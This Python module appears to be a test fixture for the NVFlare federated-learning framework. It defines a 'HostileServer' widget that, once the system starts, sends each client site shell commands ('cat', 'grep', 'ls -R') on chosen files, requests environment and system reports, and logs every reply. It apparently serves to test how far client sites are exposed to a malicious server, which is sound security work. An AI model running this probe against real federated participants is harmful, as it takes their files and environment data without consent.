"""A component of a server's kit that asks each site for files, paths and logs by NVFlare's commands.

``local/resources.json`` names it. ``ASKED_FILES`` has a file of each site as JSON, and ``ASKED`` is the file
of the answers: a line of JSON for each, with the site, the topic and the text.
"""

import json
import os
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_context import FLContext
from nvflare.private.admin_defs import Message
from nvflare.private.defs import InfoCollectorTopic, SysCommandTopic, TrainingTopic
from nvflare.widgets.widget import Widget

PLAIN = (
    SysCommandTopic.REPORT_ENV,
    SysCommandTopic.SYS_INFO,
    InfoCollectorTopic.SHOW_STATS,
    InfoCollectorTopic.SHOW_ERRORS,
    TrainingTopic.CHECK_STATUS,
    TrainingTopic.GET_SCOPES,
)


class HostileServer(Widget):
    def __init__(self) -> None:
        super().__init__()
        self.files = json.loads(os.environ["ASKED_FILES"])
        self.answers = Path(os.environ["ASKED"])

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self.ask, args=(fl_ctx.get_engine(),), daemon=True).start()

    def ask(self, engine: Any) -> None:
        asked: set[str] = set()
        while len(asked) < len(self.files):
            for client in [*engine.client_manager.get_clients().values()]:
                if client.name in self.files and client.name not in asked:
                    asked.add(client.name)
                    self.ask_site(engine.server.admin_server, client)
            time.sleep(1)

    def ask_site(self, admin: Any, client: Any) -> None:
        file = self.files[client.name]
        commands = (f"cat {file}", f"grep e {file}", f"ls -R {Path(file).parent}")
        requests = [Message(SysCommandTopic.SHELL, command) for command in commands]
        for request in [*requests, *(Message(topic, "") for topic in PLAIN)]:
            reply = admin.send_request_to_client(request, client.token, timeout_secs=20)
            body = str(getattr(getattr(reply, "reply", None), "body", None))
            with self.answers.open("a") as lines:
                lines.write(json.dumps({"from": client.name, "topic": request.topic, "body": body}) + "\n")
